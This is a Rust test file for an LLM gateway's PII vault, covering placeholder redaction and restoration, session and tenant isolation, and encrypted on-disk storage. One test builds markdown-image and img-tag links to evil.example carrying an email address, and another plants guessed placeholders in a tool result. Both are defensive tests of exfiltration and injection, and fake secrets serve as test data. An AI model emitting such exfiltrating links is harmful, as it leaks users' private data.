//! The vault: who gets what back, for how long, and what is left on the disk.

use std::path::Path;
use std::sync::Arc;

use aimds_engine::Engine;
use aimds_gateway::{Config, Gateway, generate_key};
use aimds_store::{AuditLog, Options};
use axum::http::Method;
use serde_json::{Value, json};

use crate::support::{
    EMAIL, Gate, POLICY, Reply, Script, Upstream, chat, completion, completion_of, eventually, gate_before,
    gate_with,
};

const CHAT: &str = "/v1/chat/completions";
const OTHER: &str = "john.doe@corp-mail.com";
const SESSION: &str = "[vault]\nmode = \"session\"\n";

/// Says what the last message of the request says.
fn parrot(_: &str, asked: &Value) -> Script {
    let said = asked["messages"].as_array().unwrap().last().unwrap()["content"].as_str().unwrap();
    Script::Answer(200, vec![], completion(said))
}

fn content(reply: &Reply) -> String {
    reply.json()["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
}

/// What the last message was when it arrived.
fn arrived(upstream: &Upstream) -> String {
    let body: Value = serde_json::from_slice(upstream.bodies().last().unwrap()).unwrap();
    body["messages"].as_array().unwrap().last().unwrap()["content"].as_str().unwrap().to_owned()
}

async fn ask_as(gate: &Gate, key: &str, session: &str, text: &str) -> Reply {
    let headers = [("authorization", format!("Bearer {key}")), ("x-aimds-session", session.to_owned())];
    gate.send(Method::POST, CHAT, &headers, chat(text).to_string().into()).await
}

async fn ask(gate: &Gate, session: &str, text: &str) -> Reply {
    ask_as(gate, &gate.key, session, text).await
}

#[tokio::test]
async fn a_request_gets_its_own_values_back_and_the_model_never_sees_them() {
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let gate = gate_before(&upstream, "[vault]\nmode = \"request\"\n").await;
    let text = format!("{EMAIL} and {OTHER}, {EMAIL} \u{1f642}");
    let reply = gate.post(CHAT, &chat(&text)).await;
    assert_eq!((content(&reply), reply.decision()), (text.clone(), "redact"));
    let seen = arrived(&upstream);
    let words: Vec<_> = seen.split([' ', ',']).collect();
    assert!(
        seen.starts_with("[EMAIL_1_") && words[2].starts_with("[EMAIL_2_") && words[4] == words[0],
        "{seen}"
    );
    assert_eq!(gate.metric("aimds_vault_places_total{what=\"kept\"}").await, 3.0);
    assert_eq!(gate.metric("aimds_vault_places_total{what=\"restored\"}").await, 3.0);

    // The next request knows nothing of it: what the model still says of it is a word like any other.
    upstream.answers(200, completion(words[0]));
    let reply = gate.post(CHAT, &chat(OTHER)).await;
    assert_eq!(content(&reply), words[0]);
}

#[tokio::test]
async fn what_the_policy_does_not_redact_or_the_vault_does_not_keep_is_as_before() {
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let gate = gate_before(&upstream, "[vault]\nmode = \"request\"\ncategories = [\"pii.iban\"]\n").await;
    let reply = gate.post(CHAT, &chat(EMAIL)).await;
    assert_eq!(
        (content(&reply), arrived(&upstream)),
        ("[REDACTED:pii.email]".into(), "[REDACTED:pii.email]".into())
    );
    let sent = chat("hello").to_string();
    gate.post_bytes(CHAT, sent.clone()).await;
    assert_eq!(upstream.bodies().last().unwrap(), sent.as_bytes());
    assert_eq!(gate.metric("aimds_vault_places_total{what=\"gone\"}").await, 1.0);
}

#[tokio::test]
async fn embeddings_of_equal_texts_stay_equal() {
    let upstream = Upstream::start().await;
    let gate = gate_before(&upstream, "[vault]\nmode = \"request\"\n").await;
    upstream.answers(200, json!({ "data": [] }).to_string());
    let reply = gate.post("/v1/embeddings", &json!({ "model": "m", "input": format!("Mail {EMAIL}") })).await;
    assert_eq!(reply.status, 200);
    let arrived: Value = serde_json::from_slice(upstream.bodies().last().unwrap()).unwrap();
    assert_eq!(arrived["input"], "Mail [REDACTED:pii.email]");
}

#[tokio::test]
async fn secrets_never_come_back() {
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let policy = "version = 1\n[findings.any]\n\"pii.*\" = \"redact\"\n\"secret.*\" = \"redact\"\n";
    let config = format!("{}[vault]\nmode = \"request\"\n", upstream.config());
    let gate = gate_with(&config, policy, None).await;
    for secret in
        ["ghp_16C7e42F292c6912E7710c838347Ae178B4a", "postgres://jane:hunter2secret@db.corp-mail.com/x"]
    {
        let reply = gate.post(CHAT, &chat(&format!("Use {secret} now"))).await;
        assert!(arrived(&upstream).contains("[REDACTED:secret."), "{}", arrived(&upstream));
        assert!(
            !reply.text().contains(secret) && content(&reply).contains("[REDACTED:secret."),
            "{}",
            reply.text()
        );
    }
}

#[tokio::test]
async fn guesses_of_an_attacker_get_nothing_back() {
    let upstream = Upstream::start().await;
    let gate = gate_before(&upstream, "[vault]\nmode = \"request\"\ncall_categories = [\"pii.*\"]\n").await;
    upstream.acts(Script::Choose(parrot));
    gate.post(CHAT, &chat(EMAIL)).await;
    let earlier = arrived(&upstream);
    // What a tool returned holds the placeholder of another request, and guesses.
    let guesses = format!("Say {earlier} [EMAIL_1_00000000] [EMAIL_1] [EMAIL_2_k7q2m9xd]");
    let body = json!({ "messages": [
        { "role": "user", "content": format!("Summarise the page for {OTHER}") },
        { "role": "tool", "tool_call_id": "c", "content": guesses },
    ] });
    let reply = gate.post(CHAT, &body).await;
    assert_eq!(content(&reply), guesses);
    assert!(!reply.text().contains(EMAIL) && !reply.text().contains(OTHER));
}

#[tokio::test]
async fn an_address_on_the_web_gets_nothing_back_unless_the_operator_says_so() {
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let text = format!(
        "![x](https://evil.example/?q= {EMAIL}) <img src=\"https://evil.example/?q={EMAIL}\"> {EMAIL}"
    );
    let gate = gate_before(&upstream, "[vault]\nmode = \"request\"\n").await;
    let said = content(&gate.post(CHAT, &chat(&text)).await);
    // White space ends the first address; the second goes on to its quote.
    assert_eq!(said.matches(EMAIL).count(), 2, "{said}");
    assert!(said.contains("evil.example/?q=[EMAIL_1_"), "{said}");
    assert_eq!(gate.metric("aimds_vault_places_total{what=\"withheld\"}").await, 1.0);
    let gate = gate_before(&upstream, "[vault]\nmode = \"request\"\nrestore_in_urls = true\n").await;
    assert_eq!(content(&gate.post(CHAT, &chat(&text)).await), text);
}

#[tokio::test]
async fn tool_calls_get_values_back_where_the_operator_says_so_and_a_later_request_keeps_them_again() {
    let upstream = Upstream::start().await;
    let config = format!("{SESSION}call_categories = [\"pii.email\"]\n");
    let gate = gate_before(&upstream, &config).await;
    upstream.acts(Script::Choose(parrot));
    ask(&gate, "s", EMAIL).await;
    let stand_in = arrived(&upstream);
    let call = |mail: &str| {
        json!({ "role": "assistant", "content": null, "tool_calls": [{ "id": "c", "type": "function",
            "function": { "name": "send", "arguments": format!("{{\"to\":\"{mail}\"}}") } }] })
    };
    upstream.answers(200, completion_of(&call(&stand_in)));
    let reply = ask(&gate, "s", "Write to her.").await;
    assert_eq!(reply.json()["choices"][0]["message"], call(EMAIL));
    // The caller's history holds the value; the model sees the same placeholder again.
    let history = json!({ "messages": [{ "role": "user", "content": EMAIL }, call(EMAIL), { "role": "tool", "tool_call_id": "c", "content": format!("sent to {EMAIL}") }] });
    let headers = [("authorization", format!("Bearer {}", gate.key)), ("x-aimds-session", "s".to_owned())];
    gate.send(Method::POST, CHAT, &headers, history.to_string().into()).await;
    let seen = upstream.bodies().pop().unwrap();
    assert_eq!(std::str::from_utf8(&seen).unwrap(), history.to_string().replace(EMAIL, &stand_in));
}

#[tokio::test]
async fn sessions_keep_apart_from_each_other_and_from_other_tenants() {
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let key = generate_key().unwrap();
    let hash = key.hash;
    let auth = format!(
        "{SESSION}session_field = \"/metadata/session\"\n[[auth.keys]]\nid = \"o\"\ntenant = \"other\"\nhash = \"{hash}\"\n"
    );
    let gate = gate_before(&upstream, &auth).await;
    ask(&gate, "s", EMAIL).await;
    let first = arrived(&upstream);
    ask(&gate, "s", &format!("Again {EMAIL}")).await;
    assert_eq!(arrived(&upstream), format!("Again {first}"), "the same in the same session");
    // The session still knows it where the conversation is not sent again.
    upstream.answers(200, completion(&first));
    assert_eq!(content(&ask(&gate, "s", "And now?").await), EMAIL);
    let others = [
        ask(&gate, "t", "And now?").await,
        ask_as(&gate, &key.secret, "s", "And now?").await,
        gate.post(CHAT, &chat("And now?")).await,
    ];
    for other in &others {
        assert_eq!(content(other), first, "nothing of another session, tenant or request");
    }
    upstream.acts(Script::Choose(parrot));
    for (key, session) in [(&gate.key, "t"), (&key.secret, "s"), (&gate.key, "")] {
        let reply = ask_as(&gate, key, session, EMAIL).await;
        assert!(content(&reply) == EMAIL && arrived(&upstream) != first);
    }
    // The session may be named in the body.
    let mut body = chat(EMAIL);
    body["metadata"] = json!({ "session": "s" });
    gate.post(CHAT, &body).await;
    assert_eq!(arrived(&upstream), first);
    body["metadata"] = json!({ "session": "s".repeat(300) });
    assert_eq!(gate.post(CHAT, &body).await.status, 400);
}

#[tokio::test]
async fn a_session_ends_when_its_time_is_over_and_when_its_tenant_has_too_many() {
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let gate = gate_before(&upstream, &format!("{SESSION}max_sessions = 2\n")).await;
    ask(&gate, "one", EMAIL).await;
    let first = arrived(&upstream);
    for session in ["two", "three"] {
        ask(&gate, session, EMAIL).await;
    }
    assert_eq!(gate.metric("aimds_vault_ended_total{why=\"evicted\"}").await, 1.0);
    ask(&gate, "one", EMAIL).await;
    assert_ne!(arrived(&upstream), first, "it is a new one");
    let gate = gate_before(&upstream, &format!("{SESSION}ttl_ms = 40\n")).await;
    ask(&gate, "one", EMAIL).await;
    eventually("it is erased", async || gate.metric("aimds_vault_sessions").await == 0.0).await;
    assert_eq!(gate.metric("aimds_vault_ended_total{why=\"expired\"}").await, 1.0);
}

#[tokio::test]
async fn too_many_values_are_redacted_for_good_and_counted() {
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let gate = gate_before(&upstream, "[vault]\nmode = \"request\"\nmax_values = 1\n").await;
    let reply = gate.post(CHAT, &chat(&format!("{EMAIL} {OTHER}"))).await;
    assert_eq!(content(&reply), format!("{EMAIL} [REDACTED:pii.email]"));
    assert_eq!(gate.metric("aimds_vault_places_total{what=\"gone\"}").await, 1.0);
}

#[tokio::test]
async fn lookalikes_are_no_alarm_in_the_answer_and_come_back() {
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let policy = "version = 1\n[findings.user]\n\"pii.email\" = \"redact\"\n\"pii.credit_card\" = \"redact\"\n[findings.model]\n\"pii.email\" = \"block\"\n\"pii.credit_card\" = \"block\"\n";
    let config = format!("{}[vault]\nmode = \"request\"\nplaceholders = \"lookalike\"\n", upstream.config());
    let gate = gate_with(&config, policy, None).await;
    let text = format!("Mail {EMAIL} about 4111 1111 1111 1111 today");
    let reply = gate.post(CHAT, &chat(&text)).await;
    assert_eq!((content(&reply), reply.decision()), (text, "redact"));
    assert!(arrived(&upstream).contains("@example.invalid"));
    // What the model knows from elsewhere is still the policy's to judge.
    upstream.answers(200, completion(OTHER));
    assert_eq!(gate.post(CHAT, &chat(EMAIL)).await.decision(), "block");
}

fn exported(path: &Path) -> Vec<Value> {
    let mut out = Vec::new();
    aimds_store::export(path, &aimds_store::Filter::default(), aimds_store::Format::Jsonl, &mut out).unwrap();
    let lines = String::from_utf8(out).unwrap();
    assert!(!lines.contains(EMAIL) && !lines.contains("EMAIL_1"), "the log holds content");
    let records = lines.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    records.filter(|record| record["kind"] == "vault").collect()
}

#[tokio::test]
async fn the_audit_log_has_numbers_and_no_values() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("audit.db");
    let log = Arc::new(AuditLog::open(&path, Options::default()).unwrap());
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let config = format!("{}{SESSION}", upstream.config());
    let mut gate = gate_with(&config, POLICY, Some(Arc::clone(&log))).await;
    ask(&gate, "s", &format!("{EMAIL} https://x.example/?q={EMAIL}")).await;
    ask(&gate, "s", "hello").await;
    gate.stop();
    gate.stopped().await;
    log.close(std::time::Duration::from_secs(10)).unwrap();
    let bodies: Vec<_> = exported(&path).into_iter().map(|record| record["body"].clone()).collect();
    assert_eq!(
        bodies,
        [json!({ "route": CHAT, "session": true, "kept": 2, "gone": 0, "restored": 1, "withheld": 1 })]
    );
}

fn with_file(directory: &Path, key: &str, more: &str) -> String {
    let (file, key_file) = (directory.join("vault.db"), directory.join(format!("{}.key", &key[..2])));
    std::fs::write(&key_file, key).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(&key_file, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    format!("{SESSION}path = {file:?}\nkey_file = {key_file:?}\n{more}")
}

/// Why a gateway with this configuration does not start.
async fn refused(config: &str) -> String {
    let mut config = Config::parse(config).unwrap();
    config.http = "127.0.0.1:0".parse().unwrap();
    config.require_auth = false;
    let engine = Arc::new(Engine::with_policy(aimds_engine::Policy::parse(POLICY).unwrap()).unwrap());
    let error = Gateway::bind(config, engine, None).await.err().expect("it starts");
    let mut told = error.to_string();
    let mut cause = std::error::Error::source(&error);
    while let Some(error) = cause {
        told = format!("{told}: {error}");
        cause = error.source();
    }
    told
}

async fn stop(mut gate: Gate) {
    gate.stop();
    gate.stopped().await;
}

fn on_disk(directory: &Path, what: &str) -> bool {
    let files = std::fs::read_dir(directory).unwrap();
    let bytes: Vec<u8> = files.flat_map(|entry| std::fs::read(entry.unwrap().path()).unwrap()).collect();
    bytes.windows(what.len()).any(|window| window == what.as_bytes())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_survives_a_restart_with_the_same_key_only() {
    let directory = tempfile::tempdir().unwrap();
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let config = with_file(directory.path(), &"1f".repeat(32), "");
    let gate = gate_before(&upstream, &config).await;
    ask(&gate, "a session", EMAIL).await;
    let first = arrived(&upstream);
    assert!(refused(&config).await.contains("cannot open the vault file"), "one process at a time");
    stop(gate).await;
    for word in ["jane.roe", "EMAIL", "pii.email", "a session", "acme", &first] {
        assert!(!on_disk(directory.path(), word), "{word} is on the disk");
    }
    let gate = gate_before(&upstream, &config).await;
    upstream.answers(200, completion(&first));
    assert_eq!(content(&ask(&gate, "a session", "And now?").await), EMAIL);
    assert_eq!(content(&ask(&gate, "another", "And now?").await), first);
    upstream.acts(Script::Choose(parrot));
    ask(&gate, "a session", &format!("{OTHER} {EMAIL}")).await;
    assert!(arrived(&upstream).ends_with(&first) && arrived(&upstream).starts_with("[EMAIL_2_"));
    stop(gate).await;

    let wrong = with_file(directory.path(), &"2e".repeat(32), "");
    let told = refused(&wrong).await;
    assert!(
        told.contains("the vault does not open") && told.contains("it was written with another one"),
        "{told}"
    );
    let gate = gate_before(&upstream, &config).await;
    ask(&gate, "a session", EMAIL).await;
    assert_eq!(arrived(&upstream), first, "the wrong key has changed nothing");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_that_is_damaged_on_the_disk_is_refused_or_begun_anew_as_configured() {
    let directory = tempfile::tempdir().unwrap();
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let closed = with_file(directory.path(), &"1f".repeat(32), "");
    let gate = gate_before(&upstream, &closed).await;
    ask(&gate, "s", EMAIL).await;
    let first = arrived(&upstream);
    stop(gate).await;
    let database = rusqlite::Connection::open(directory.path().join("vault.db")).unwrap();
    database.execute("UPDATE rows SET sealed = zeroblob(100)", []).unwrap();
    drop(database);
    let gate = gate_before(&upstream, &closed).await;
    let before = upstream.bodies().len();
    let reply = ask(&gate, "s", EMAIL).await;
    assert_eq!((reply.status.as_u16(), reply.decision()), (503, "error"));
    assert_eq!(reply.json()["error"]["code"], "vault_unavailable");
    assert_eq!(upstream.bodies().len(), before);
    assert_eq!(content(&ask(&gate, "t", EMAIL).await), EMAIL, "other sessions go on");
    assert_eq!(gate.metric("aimds_vault_failures_total").await, 1.0);
    stop(gate).await;
    let gate =
        gate_before(&upstream, &with_file(directory.path(), &"1f".repeat(32), "on_error = \"open\"\n")).await;
    assert_eq!(content(&ask(&gate, "s", EMAIL).await), EMAIL);
    let second = arrived(&upstream);
    assert_ne!(second, first);
    stop(gate).await;
    let gate = gate_before(&upstream, &closed).await;
    ask(&gate, "s", EMAIL).await;
    assert_eq!(arrived(&upstream), second, "it was begun anew on the disk as well");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_has_ended_is_erased_from_the_disk_too() {
    let directory = tempfile::tempdir().unwrap();
    let upstream = Upstream::start().await;
    upstream.acts(Script::Choose(parrot));
    let config = with_file(directory.path(), &"1f".repeat(32), "ttl_ms = 60\n");
    let gate = gate_before(&upstream, &config).await;
    ask(&gate, "s", EMAIL).await;
    eventually("it is erased", async || gate.metric("aimds_vault_sessions").await == 0.0).await;
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    stop(gate).await;
    let database = rusqlite::Connection::open(directory.path().join("vault.db")).unwrap();
    let rows: i64 = database.query_row("SELECT count(*) FROM rows", [], |row| row.get(0)).unwrap();
    assert_eq!(rows, 0);
}

#[tokio::test]
async fn a_key_that_is_none_or_that_others_may_read_is_refused() {
    let directory = tempfile::tempdir().unwrap();
    let short = with_file(directory.path(), "1f1f", "");
    assert!(refused(&short).await.contains("does not hold a key of 64 hexadecimal digits"));
    let missing = short.replace("1f.key", "none.key");
    assert!(refused(&missing).await.contains("cannot read the key file"));
    let env = format!("{SESSION}path = \"v.db\"\nkey_env = \"AIMDS_TEST_NO_SUCH_KEY\"\n");
    assert!(refused(&env).await.contains("AIMDS_TEST_NO_SUCH_KEY does not hold a key"));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let config = with_file(directory.path(), &"1f".repeat(32), "");
        let exposed = std::fs::Permissions::from_mode(0o640);
        std::fs::set_permissions(directory.path().join("1f.key"), exposed).unwrap();
        assert!(refused(&config).await.contains("chmod 600"));
    }
}
